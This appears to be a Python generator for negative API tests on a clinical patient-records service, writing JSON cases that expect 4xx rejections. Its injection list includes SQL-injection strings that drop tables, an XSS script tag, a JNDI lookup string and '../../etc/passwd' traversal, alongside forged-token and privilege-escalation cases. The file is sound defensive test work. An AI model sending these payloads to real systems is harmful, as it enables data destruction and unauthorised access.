"""Writes the bad-input corpus (``*.json`` here); run it again after changing a category.

Each case: ``id``, ``method``, ``path``, ``as`` (a role, ``anonymous`` or ``token:<kind>``),
a body as ``json`` (a JSON value), ``raw`` (text sent as is) or ``raw_hex`` (bytes), an
optional ``content_type`` and ``headers``, and ``expect`` (the exact 4xx status).
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
P = "/api/v1/patients"
SEED = "p-seed"

REC: dict[str, Any] = {
    "as_of": "2026-01-10",
    "demographics": {"age": 41, "sex": "female", "weight_kg": 70.0},
    "assessments": [{"instrument": "pcl5", "date": "2026-01-05", "responses": [2] * 20}],
}
INJECTIONS = [
    "'; DROP TABLE patients; --",
    '" OR 1=1 --',
    "1; DELETE FROM audit_log",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "../../etc/passwd",
    "%27%20OR%20%271%27%3D%271",
    "\\x27; SELECT pg_sleep(5); --",
    "Robert'); DROP TABLE users;--",
]
ODD = [
    "\u202eevil\u202c",  # right-to-left override
    "a\u200bb",  # zero width space
    "\ufeffbom",
    "e\u0301",  # combining accent
    "\U0001f600",  # emoji
    "Ω≈ç√",
    "\u00a0",
    "ｆｕｌｌｗｉｄｔｈ",
]


def rec(**changes: Any) -> dict[str, Any]:
    r = copy.deepcopy(REC)
    for path, value in changes.items():
        target = r
        keys = path.split("__")
        for k in keys[:-1]:
            target = target.setdefault(k, {}) if not k.isdigit() else target[int(k)]
        last = keys[-1]
        if last.isdigit():
            target[int(last)] = value
        else:
            target[last] = value
    return r


def case(cid: str, method: str, path: str, who: str, expect: int, **extra: Any) -> dict[str, Any]:
    return {"id": cid, "method": method, "path": path, "as": who, "expect": expect, **extra}


def new_patient(cid: str, record: Any, expect: int = 422, **extra: Any) -> dict[str, Any]:
    return case(cid, "POST", P, "clinician", expect, json={"record": record, **extra})


def wrong_types() -> list[dict[str, Any]]:
    bad = {
        "age_string": rec(demographics__age="forty"),
        "age_float": rec(demographics__age=41.5),
        "age_list": rec(demographics__age=[41]),
        "weight_string": rec(demographics__weight_kg="heavy"),
        "weight_object": rec(demographics__weight_kg={"kg": 70}),
        "sex_number": rec(demographics__sex=1),
        "pregnant_string": rec(demographics__pregnant="maybe"),
        "as_of_number": rec(as_of=20260110),
        "as_of_bad_date": rec(as_of="2026-02-30"),
        "as_of_text": rec(as_of="yesterday"),
        "demographics_list": rec(demographics=[41, "female"]),
        "assessments_string": rec(assessments="pcl5"),
        "assessment_responses_string": rec(assessments__0__responses="2222"),
        "assessment_date_number": rec(assessments__0__date=5),
        "assessment_instrument_number": rec(assessments__0__instrument=5),
        "diagnoses_object": rec(diagnoses={"condition": "ptsd"}),
        "diagnosis_condition_number": rec(diagnoses=[{"condition": 1, "status": "current"}]),
        "medications_string": rec(medications="sertraline"),
        "medication_dose_string": rec(medications=[{"name": "sertraline", "dose_mg": "fifty"}]),
        "vitals_taken_at_text": rec(vitals=[{"taken_at": "noon", "systolic": 120}]),
        "consent_string": rec(consent="yes"),
        "record_is_list": [REC],
        "record_is_string": "record",
        "record_is_null": None,
        "genetics_list": rec(genetics=["rs1"]),
    }
    out = [new_patient(f"wrong_type_{k}", v) for k, v in bad.items()]
    out += [
        case("wrong_type_body_list", "POST", P, "clinician", 422, json=[{"record": REC}]),
        case("wrong_type_body_number", "POST", P, "clinician", 422, json=42),
        case(
            "wrong_type_login_username_number",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            422,
            json={"username": 5, "password": "x" * 12},
        ),
        case(
            "wrong_type_login_password_list",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            422,
            json={"username": "clinician1", "password": ["x"]},
        ),
        case(
            "wrong_type_vitals_systolic_string",
            "POST",
            "/api/v1/sessions/{sid}/vitals",
            "nurse",
            422,
            json={"taken_at": "2026-01-12T09:40:00", "systolic": "high"},
        ),
        case(
            "wrong_type_dose_amount_string",
            "POST",
            "/api/v1/sessions/{sid}/doses",
            "nurse",
            422,
            json={"given_at": "2026-01-12T09:05:00", "amount_mg": "lots", "route": "intranasal"},
        ),
        case(
            "wrong_type_episode_date_number",
            "POST",
            f"{P}/{SEED}/episodes",
            "clinician",
            422,
            json={"treatment": "sertraline", "started_on": 1},
        ),
        case(
            "wrong_type_close_end_bool",
            "POST",
            "/api/v1/sessions/{sid}/close",
            "nurse",
            422,
            json={"end": True},
        ),
        case(
            "wrong_type_assessment_body_list",
            "POST",
            f"{P}/{SEED}/assessments",
            "clinician",
            422,
            json=[{"instrument": "pcl5"}],
        ),
        case(
            "wrong_type_session_staff_string",
            "POST",
            f"{P}/{SEED}/sessions",
            "nurse",
            422,
            json={
                "phase": "dosing",
                "treatment": "esketamine",
                "start": "2026-01-12T09:00:00",
                "staff": "nurse1",
            },
        ),
    ]
    return out


def out_of_range() -> list[dict[str, Any]]:
    adm = f"{P}/{SEED}/assessments"
    items = {
        "pcl5_item_5": ("pcl5", [2] * 19 + [5]),
        "pcl5_item_negative": ("pcl5", [-1] + [2] * 19),
        "pcl5_item_99": ("pcl5", [99] * 20),
        "pcl5_19_items": ("pcl5", [2] * 19),
        "pcl5_21_items": ("pcl5", [2] * 21),
        "pcl5_no_items": ("pcl5", []),
        "phq9_item_4": ("phq9", [4] * 9),
        "phq9_8_items": ("phq9", [1] * 8),
        "phq9_item_negative": ("phq9", [1] * 8 + [-2]),
        "gad7_item_4": ("gad7", [4] * 7),
        "gad7_10_items": ("gad7", [1] * 10),
        "bdi2_item_4": ("bdi2", [4] * 21),
    }
    out = [
        case(
            f"range_{k}",
            "POST",
            adm,
            "clinician",
            422,
            json={"instrument": i, "date": "2026-01-08", "responses": r},
        )
        for k, (i, r) in items.items()
    ]
    out += [
        new_patient("range_age_negative", rec(demographics__age=-1)),
        new_patient("range_age_200", rec(demographics__age=200)),
        new_patient("range_weight_zero", rec(demographics__weight_kg=0)),
        new_patient("range_weight_2000", rec(demographics__weight_kg=2000)),
        new_patient("range_record_pcl5_item_7", rec(assessments__0__responses=[7] * 20)),
        new_patient("range_dob_future", REC, identifiers={"date_of_birth": "2999-01-01"}),
        new_patient("range_dob_1800", REC, identifiers={"date_of_birth": "1800-01-01"}),
        new_patient("range_name_too_long", REC, identifiers={"name": "n" * 300}),
        new_patient("range_mrn_empty", REC, identifiers={"mrn": ""}),
        new_patient("range_mrn_too_long", REC, identifiers={"mrn": "m" * 65}),
        case("range_list_limit_zero", "GET", P + "?limit=0", "clinician", 422),
        case("range_list_limit_huge", "GET", P + "?limit=100000", "clinician", 422),
        case("range_list_offset_negative", "GET", P + "?offset=-1", "clinician", 422),
        case("range_list_limit_text", "GET", P + "?limit=ten", "clinician", 422),
        case("range_audit_limit_huge", "GET", "/api/v1/audit?limit=5000", "auditor", 422),
        case("range_audit_outcome_bogus", "GET", "/api/v1/audit?outcome=great", "auditor", 422),
        case("range_audit_since_text", "GET", "/api/v1/audit?since=last-week", "auditor", 422),
        case(
            "range_research_limit_zero",
            "GET",
            "/api/v1/research/patients?limit=0",
            "researcher",
            422,
        ),
        case(
            "range_vitals_spo2_150",
            "POST",
            "/api/v1/sessions/{sid}/vitals",
            "nurse",
            422,
            json={"taken_at": "2026-01-12T09:40:00", "spo2": 150},
        ),
        case(
            "range_vitals_systolic_negative",
            "POST",
            "/api/v1/sessions/{sid}/vitals",
            "nurse",
            422,
            json={"taken_at": "2026-01-12T09:40:00", "systolic": -10},
        ),
        case(
            "range_dose_3000mg",
            "POST",
            "/api/v1/sessions/{sid}/doses",
            "nurse",
            422,
            json={"given_at": "2026-01-12T09:05:00", "amount_mg": 3000, "route": "intranasal"},
        ),
        case(
            "range_dose_zero",
            "POST",
            "/api/v1/sessions/{sid}/doses",
            "nurse",
            422,
            json={"given_at": "2026-01-12T09:05:00", "amount_mg": 0, "route": "intranasal"},
        ),
        case("range_session_id_zero", "GET", "/api/v1/sessions/0", "nurse", 422),
        case("range_session_id_huge", "GET", "/api/v1/sessions/99999999999999999999", "nurse", 422),
        case(
            "range_episode_end_before_start",
            "POST",
            "/api/v1/episodes/{eid}/end",
            "clinician",
            422,
            json={"ended_on": "2000-01-01", "status": "completed"},
        ),
        case(
            "range_episode_end_status",
            "POST",
            "/api/v1/episodes/{eid}/end",
            "clinician",
            422,
            json={"ended_on": "2026-02-01", "status": "abandoned"},
        ),
        case("range_patient_id_too_long", "GET", f"{P}/{'p' * 65}", "clinician", 422),
        case(
            "range_timeline_instrument_bad",
            "GET",
            f"{P}/{SEED}/timeline?instrument=PCL-5!",
            "clinician",
            422,
        ),
        case(
            "range_timeline_instrument_unknown",
            "GET",
            f"{P}/{SEED}/timeline?instrument=xyz",
            "clinician",
            422,
        ),
        case(
            "range_import_skip_invalid_text",
            "POST",
            f"{P}/import?skip_invalid=perhaps",
            "clinician",
            422,
            json=REC,
        ),
    ]
    return out


def unknown_fields() -> list[dict[str, Any]]:
    out = [
        new_patient("unknown_record_field", rec(favourite_colour="blue")),
        new_patient("unknown_demographics_field", rec(demographics__height_cm=170)),
        new_patient("unknown_assessment_field", rec(assessments__0__score=40)),
        new_patient("unknown_identifiers_field", REC, identifiers={"ssn": "123-45-6789"}),
        new_patient("unknown_consent_field", rec(consent={"research_use": True, "sell": True})),
        case(
            "unknown_top_level",
            "POST",
            P,
            "clinician",
            422,
            json={"record": REC, "owner": "admin1"},
        ),
        case(
            "unknown_login_role",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            422,
            json={"username": "nurse1", "password": "x" * 12, "role": "admin"},
        ),
        case(
            "unknown_refresh_field",
            "POST",
            "/api/v1/auth/refresh",
            "anonymous",
            422,
            json={"refresh_token": "x", "family": "y"},
        ),
        case(
            "unknown_user_field",
            "POST",
            "/api/v1/users",
            "admin",
            422,
            json={
                "username": "new1",
                "role": "nurse",
                "password": "long-enough-pass-9",
                "is_superuser": True,
            },
        ),
        case(
            "unknown_session_field",
            "POST",
            f"{P}/{SEED}/sessions",
            "nurse",
            422,
            json={
                "phase": "dosing",
                "treatment": "esketamine",
                "start": "2026-01-12T09:00:00",
                "status": "complete",
            },
        ),
        case(
            "unknown_vitals_field",
            "POST",
            "/api/v1/sessions/{sid}/vitals",
            "nurse",
            422,
            json={"taken_at": "2026-01-12T09:40:00", "mood": "fine"},
        ),
        case(
            "unknown_dose_field",
            "POST",
            "/api/v1/sessions/{sid}/doses",
            "nurse",
            422,
            json={
                "given_at": "2026-01-12T09:05:00",
                "amount_mg": 56,
                "route": "intranasal",
                "batch": "A1",
            },
        ),
        case(
            "unknown_ae_field",
            "POST",
            "/api/v1/sessions/{sid}/adverse-events",
            "nurse",
            422,
            json={
                "term": "nausea",
                "onset": "2026-01-12T09:30:00",
                "severity": "mild",
                "blame": "x",
            },
        ),
        case(
            "unknown_close_field",
            "POST",
            "/api/v1/sessions/{sid}/close",
            "nurse",
            422,
            json={"end": "2026-01-12T11:00:00", "force": True},
        ),
        case(
            "unknown_episode_field",
            "POST",
            f"{P}/{SEED}/episodes",
            "clinician",
            422,
            json={"treatment": "sertraline", "started_on": "2026-01-15", "dose": 50},
        ),
        case(
            "unknown_episode_end_field",
            "POST",
            "/api/v1/episodes/{eid}/end",
            "clinician",
            422,
            json={"ended_on": "2026-02-01", "status": "completed", "by": "x"},
        ),
        case(
            "unknown_assessment_body_field",
            "POST",
            f"{P}/{SEED}/assessments",
            "clinician",
            422,
            json={
                "instrument": "pcl5",
                "date": "2026-01-08",
                "responses": [1] * 20,
                "total_override": 0,
            },
        ),
        case(
            "unknown_import_field", "POST", f"{P}/import", "clinician", 422, json=rec(extra_field=1)
        ),
        case(
            "unknown_instrument",
            "POST",
            f"{P}/{SEED}/assessments",
            "clinician",
            422,
            json={"instrument": "not-an-instrument!", "date": "2026-01-08"},
        ),
        case(
            "unknown_treatment_episode",
            "POST",
            f"{P}/{SEED}/episodes",
            "clinician",
            422,
            json={"treatment": "snake_oil", "started_on": "2026-01-15"},
        ),
        case(
            "unknown_session_phase",
            "POST",
            f"{P}/{SEED}/sessions",
            "nurse",
            422,
            json={"phase": "party", "treatment": "esketamine", "start": "2026-01-12T09:00:00"},
        ),
        case(
            "unknown_dose_route",
            "POST",
            "/api/v1/sessions/{sid}/doses",
            "nurse",
            422,
            json={"given_at": "2026-01-12T09:05:00", "amount_mg": 56, "route": "ear"},
        ),
        case(
            "unknown_ae_severity",
            "POST",
            "/api/v1/sessions/{sid}/adverse-events",
            "nurse",
            422,
            json={"term": "nausea", "onset": "2026-01-12T09:30:00", "severity": "apocalyptic"},
        ),
        case(
            "unknown_user_role",
            "POST",
            "/api/v1/users",
            "admin",
            422,
            json={"username": "new2", "role": "superuser", "password": "long-enough-pass-9"},
        ),
        new_patient("unknown_sex_value", rec(demographics__sex="unknowable")),
        new_patient(
            "unknown_condition", rec(diagnoses=[{"condition": "vampirism", "status": "current"}])
        ),
    ]
    return out


def invalid_json() -> list[dict[str, Any]]:
    texts = {
        "truncated": '{"record": {"as_of": "2026-01-10"',
        "trailing_comma": '{"record": {"as_of": "2026-01-10",}}',
        "single_quotes": "{'record': {}}",
        "bare_word": "record",
        "nan": '{"record": {"demographics": {"age": NaN}}}',
        "infinity": '{"record": {"demographics": {"weight_kg": Infinity}}}',
        "comment": '{"record": {} /* hi */}',
        "unquoted_key": "{record: {}}",
        "two_objects": '{"record": {}}{"record": {}}',
        "lone_surrogate": '{"record": {"patient_id": "\\ud800"}}',
        "bad_escape": '{"record": {"patient_id": "\\q"}}',
        "control_char": '{"record": {"patient_id": "a\tb"}}',
        "deep_nesting": "[" * 5000 + "]" * 5000,
        "only_whitespace": "   ",
        "hex_number": '{"record": {"demographics": {"age": 0x29}}}',
        "leading_zero": '{"record": {"demographics": {"age": 041}}}',
        "empty_string": "",
        "null_byte_escape": '{"record": {"patient_id": "a\\u0000b"}}',
    }
    out = [
        case(
            f"json_{k}",
            "POST",
            P,
            "clinician",
            422
            if k in {"nan", "infinity", "lone_surrogate", "null_byte_escape", "empty_string"}
            else 400,
            raw=v,
            content_type="application/json",
        )
        for k, v in texts.items()
    ]
    out += [
        case(
            "json_login_truncated",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            400,
            raw='{"username": "a',
            content_type="application/json",
        ),
        case(
            "json_vitals_truncated",
            "POST",
            "/api/v1/sessions/{sid}/vitals",
            "nurse",
            400,
            raw='{"taken_at": ',
            content_type="application/json",
        ),
        case(
            "json_invalid_utf8",
            "POST",
            P,
            "clinician",
            400,
            raw_hex=b'{"record": {"patient_id": "\xff\xfe"}}'.hex(),
            content_type="application/json",
        ),
        case(
            "json_overlong_utf8",
            "POST",
            P,
            "clinician",
            400,
            raw_hex=b'{"record": {"patient_id": "\xc0\xaf"}}'.hex(),
            content_type="application/json",
        ),
        case(
            "jsonl_bad_line",
            "POST",
            f"{P}/import",
            "clinician",
            422,
            raw=json.dumps(REC | {"patient_id": "jl-1"}) + "\n{not json}\n",
            content_type="application/x-ndjson",
        ),
        case(
            "jsonl_invalid_utf8",
            "POST",
            f"{P}/import",
            "clinician",
            400,
            raw_hex=b'{"as_of": "\xff"}\n'.hex(),
            content_type="application/x-ndjson",
        ),
        case(
            "jsonl_duplicate_ids",
            "POST",
            f"{P}/import",
            "clinician",
            422,
            raw="\n".join([json.dumps(REC | {"patient_id": "dup"})] * 2),
            content_type="application/x-ndjson",
        ),
        case(
            "jsonl_one_bad_of_three",
            "POST",
            f"{P}/import",
            "clinician",
            422,
            raw="\n".join(
                [
                    json.dumps(REC | {"patient_id": "ok-1"}),
                    json.dumps(REC | {"patient_id": "ok-2"}),
                    json.dumps(rec(demographics__age=-5) | {"patient_id": "bad-3"}),
                ]
            ),
            content_type="application/x-ndjson",
        ),
        case(
            "jsonl_existing_id",
            "POST",
            f"{P}/import",
            "clinician",
            422,
            raw=json.dumps(REC | {"patient_id": SEED}),
            content_type="application/x-ndjson",
        ),
        case(
            "import_empty",
            "POST",
            f"{P}/import",
            "clinician",
            422,
            raw="",
            content_type="application/x-ndjson",
        ),
    ]
    return out


def content_types() -> list[dict[str, Any]]:
    body = json.dumps({"record": REC})
    out = []
    for i, ctype in enumerate(
        [
            "text/plain",
            "application/x-www-form-urlencoded",
            "application/xml",
            "multipart/form-data; boundary=x",
            "text/html",
            "application/octet-stream",
            "image/png",
            "application/javascript",
        ]
    ):
        out.append(
            case(f"ctype_patient_{i}", "POST", P, "clinician", 415, raw=body, content_type=ctype)
        )
    for i, (path, who) in enumerate(
        [
            ("/api/v1/auth/token", "anonymous"),
            ("/api/v1/sessions/{sid}/vitals", "nurse"),
            (f"{P}/import", "clinician"),
            (f"{P}/{SEED}/assessments", "clinician"),
            ("/api/v1/users", "admin"),
            ("/api/v1/auth/refresh", "anonymous"),
        ]
    ):
        out.append(
            case(
                f"ctype_route_{i}",
                "POST",
                path,
                who,
                415,
                raw="a=1&b=2",
                content_type="application/x-www-form-urlencoded",
            )
        )
    out.append(case("ctype_missing", "POST", P, "clinician", 415, raw=body, content_type=""))
    return out


def oversized() -> list[dict[str, Any]]:
    return [
        case("oversized_patient", "POST", P, "clinician", 413, oversized=6 * 1024 * 1024),
        case(
            "oversized_import",
            "POST",
            f"{P}/import",
            "clinician",
            413,
            oversized=6 * 1024 * 1024,
            content_type="application/x-ndjson",
        ),
        case(
            "oversized_login",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            413,
            oversized=6 * 1024 * 1024,
        ),
        case(
            "oversized_vitals",
            "POST",
            "/api/v1/sessions/{sid}/vitals",
            "nurse",
            413,
            oversized=5 * 1024 * 1024 + 1,
        ),
        case(
            "oversized_declared_length",
            "POST",
            P,
            "clinician",
            413,
            raw="{}",
            headers={"Content-Length": "999999999"},
            content_type="application/json",
        ),
        case(
            "oversized_name_field",
            "POST",
            P,
            "clinician",
            422,
            json={"record": REC, "identifiers": {"name": "x" * 100_000}},
        ),
        case(
            "oversized_note_field",
            "POST",
            f"{P}/{SEED}/episodes",
            "clinician",
            422,
            json={"treatment": "sertraline", "started_on": "2026-01-15", "note": "n" * 5000},
        ),
        case(
            "oversized_password",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            422,
            json={"username": "nurse1", "password": "p" * 2000},
        ),
    ]


def injections() -> list[dict[str, Any]]:
    out = []
    for i, s in enumerate(INJECTIONS):
        out.append(new_patient(f"inject_patient_id_{i}", rec(patient_id=s)))
        out.append(
            case(
                f"inject_path_{i}",
                "GET",
                f"{P}/{s.replace('/', '%2F')}",
                "clinician",
                404 if "/" in s else 422,
            )
        )
        out.append(
            new_patient(
                f"inject_name_with_bad_age_{i}", rec(demographics__age=-3), identifiers={"name": s}
            )
        )
        out.append(
            case(
                f"inject_treatment_{i}",
                "POST",
                f"{P}/{SEED}/episodes",
                "clinician",
                422,
                json={"treatment": s, "started_on": "2026-01-15", "note": s},
            )
        )
        out.append(
            case(
                f"inject_username_{i}",
                "POST",
                "/api/v1/users",
                "admin",
                422,
                json={"username": s, "role": "nurse", "password": "long-enough-pass-9"},
            )
        )
    return out


def odd_unicode() -> list[dict[str, Any]]:
    out = []
    for i, s in enumerate(ODD):
        out.append(new_patient(f"unicode_patient_id_{i}", rec(patient_id=s)))
        out.append(new_patient(f"unicode_sex_{i}", rec(demographics__sex=s)))
        out.append(
            case(
                f"unicode_instrument_{i}",
                "POST",
                f"{P}/{SEED}/assessments",
                "clinician",
                422,
                json={"instrument": s, "date": "2026-01-08"},
            )
        )
    out.append(case("unicode_nul_in_query", "GET", P + "?q=a%00b", "clinician", 422))
    out.append(
        case(
            "unicode_nul_in_name",
            "POST",
            P,
            "clinician",
            422,
            json={"record": REC, "identifiers": {"name": "a\u0000b"}},
        )
    )
    return out


def tokens() -> list[dict[str, Any]]:
    kinds = [
        "expired",
        "forged",
        "alg_none",
        "wrong_audience",
        "wrong_issuer",
        "hs512",
        "malformed",
        "empty",
        "basic",
        "session_as_bearer",
        "unknown_user",
        "no_exp",
    ]
    routes = [
        ("GET", f"{P}/{SEED}"),
        ("POST", P),
        ("GET", "/api/v1/audit"),
        ("GET", "/api/v1/users"),
    ]
    out = []
    for k in kinds:
        for j, (m, path) in enumerate(routes):
            body = {"json": {"record": REC}} if m == "POST" else {}
            out.append(case(f"token_{k}_{j}", m, path, f"token:{k}", 401, **body))
    out += [
        case(
            "refresh_reused_after_rotation", "POST", "/api/v1/auth/refresh", "refresh:reused", 401
        ),
        case(
            "refresh_random",
            "POST",
            "/api/v1/auth/refresh",
            "anonymous",
            401,
            json={"refresh_token": "A" * 43},
        ),
        case(
            "refresh_access_token_as_refresh", "POST", "/api/v1/auth/refresh", "refresh:access", 401
        ),
        case(
            "logout_random_token",
            "POST",
            "/api/v1/auth/logout",
            "anonymous",
            401,
            json={"refresh_token": "B" * 43},
        ),
        case(
            "login_wrong_password",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            401,
            json={"username": "auditor1", "password": "not-the-password-1"},
        ),
        case(
            "login_unknown_user",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            401,
            json={"username": "ghost", "password": "not-the-password-1"},
        ),
        case("csrf_missing_on_cookie_post", "POST", P, "cookie:no_csrf", 403, json={"record": REC}),
        case(
            "csrf_wrong_on_cookie_post", "POST", P, "cookie:wrong_csrf", 403, json={"record": REC}
        ),
    ]
    return out


def escalation() -> list[dict[str, Any]]:
    new_admin = {"username": "mallory", "role": "admin", "password": "long-enough-pass-9"}
    out = [
        case("escalate_nurse_adds_admin", "POST", "/api/v1/users", "nurse", 403, json=new_admin),
        case(
            "escalate_clinician_adds_admin",
            "POST",
            "/api/v1/users",
            "clinician",
            403,
            json=new_admin,
        ),
        case(
            "escalate_researcher_adds_admin",
            "POST",
            "/api/v1/users",
            "researcher",
            403,
            json=new_admin,
        ),
        case(
            "escalate_auditor_adds_admin", "POST", "/api/v1/users", "auditor", 403, json=new_admin
        ),
        case("escalate_nurse_disables_admin", "POST", "/api/v1/users/admin1/disable", "nurse", 403),
        case(
            "escalate_token_claims_admin", "GET", "/api/v1/users", "token:nurse_claims_admin", 401
        ),
        case("escalate_researcher_reads_record", "GET", f"{P}/{SEED}", "researcher", 403),
        case("escalate_researcher_lists_patients", "GET", P, "researcher", 403),
        case("escalate_researcher_report", "GET", f"{P}/{SEED}/report.html", "researcher", 403),
        case("escalate_auditor_reads_record", "GET", f"{P}/{SEED}", "auditor", 403),
        case(
            "escalate_auditor_updates_record",
            "PUT",
            f"{P}/{SEED}",
            "auditor",
            403,
            json={"record": REC},
        ),
        case("escalate_nurse_reads_record", "GET", f"{P}/{SEED}", "nurse", 403),
        case("escalate_nurse_imports", "POST", f"{P}/import", "nurse", 403, json=REC),
        case("escalate_nurse_recommends", "POST", f"{P}/{SEED}/recommendations", "nurse", 403),
        case("escalate_clinician_reads_audit", "GET", "/api/v1/audit", "clinician", 403),
        case("escalate_admin_reads_record", "GET", f"{P}/{SEED}", "admin", 403),
        case("escalate_admin_reads_audit", "GET", "/api/v1/audit", "admin", 403),
        case("escalate_clinician_research", "GET", "/api/v1/research/patients", "clinician", 403),
        case("escalate_anonymous_lists", "GET", P, "anonymous", 401),
        case("escalate_anonymous_creates", "POST", P, "anonymous", 401, json={"record": REC}),
        case(
            "escalate_nurse_other_patient_summary",
            "GET",
            f"{P}/p-other/safety-summary",
            "nurse",
            403,
        ),
        case(
            "escalate_login_role_field",
            "POST",
            "/api/v1/auth/token",
            "anonymous",
            422,
            json={"username": "nurse1", "password": "x" * 12, "role": "admin"},
        ),
        case(
            "stale_if_match",
            "PUT",
            f"{P}/{SEED}",
            "clinician",
            412,
            json={"record": REC},
            headers={"If-Match": '"999"'},
        ),
        case("missing_if_match", "PUT", f"{P}/{SEED}", "clinician", 428, json={"record": REC}),
        case(
            "garbage_if_match",
            "PUT",
            f"{P}/{SEED}",
            "clinician",
            412,
            json={"record": REC},
            headers={"If-Match": "banana"},
        ),
        case(
            "put_changes_patient_id",
            "PUT",
            f"{P}/{SEED}",
            "clinician",
            422,
            json={"record": REC | {"patient_id": "someone-else"}},
            headers={"If-Match": '"1"'},
        ),
        case(
            "duplicate_patient",
            "POST",
            P,
            "clinician",
            422,
            json={"record": REC | {"patient_id": SEED}},
        ),
        case(
            "duplicate_mrn",
            "POST",
            P,
            "clinician",
            422,
            json={"record": REC, "identifiers": {"mrn": "SEED-MRN"}},
        ),
        case("missing_patient_get", "GET", f"{P}/p-missing", "clinician", 404),
        case(
            "missing_patient_assess",
            "POST",
            f"{P}/p-missing/assessments",
            "clinician",
            404,
            json={"instrument": "pcl5", "date": "2026-01-08", "responses": [1] * 20},
        ),
        case(
            "missing_session_vitals",
            "POST",
            "/api/v1/sessions/999999/vitals",
            "nurse",
            404,
            json={"taken_at": "2026-01-12T09:40:00", "systolic": 120, "diastolic": 80},
        ),
        case(
            "missing_episode_end",
            "POST",
            "/api/v1/episodes/999999/end",
            "clinician",
            404,
            json={"ended_on": "2026-02-01", "status": "completed"},
        ),
        case(
            "close_incomplete_session",
            "POST",
            "/api/v1/sessions/{sid}/close",
            "nurse",
            409,
            json={"end": "2026-01-12T11:00:00"},
        ),
        case(
            "weak_password_user",
            "POST",
            "/api/v1/users",
            "admin",
            422,
            json={"username": "weak1", "role": "nurse", "password": "password1234"},
        ),
        case(
            "existing_user",
            "POST",
            "/api/v1/users",
            "admin",
            409,
            json={"username": "nurse1", "role": "nurse", "password": "long-enough-pass-9"},
        ),
        case("disable_missing_user", "POST", "/api/v1/users/ghost/disable", "admin", 404),
        case("unknown_route", "GET", "/api/v1/secrets", "admin", 404),
        case("wrong_method", "DELETE", f"{P}/{SEED}", "clinician", 405),
    ]
    return out


def main() -> None:
    groups = {
        "wrong_types": wrong_types(),
        "out_of_range": out_of_range(),
        "unknown_fields": unknown_fields(),
        "invalid_json": invalid_json(),
        "content_types": content_types(),
        "oversized": oversized(),
        "injections": injections(),
        "odd_unicode": odd_unicode(),
        "tokens": tokens(),
        "escalation": escalation(),
    }
    total = 0
    for name, cases in groups.items():
        ids = [c["id"] for c in cases]
        assert len(ids) == len(set(ids)), name
        (HERE / f"{name}.json").write_text(
            json.dumps(cases, indent=1, ensure_ascii=True) + "\n", encoding="utf-8"
        )
        total += len(cases)
    print(f"{total} cases")


if __name__ == "__main__":
    main()
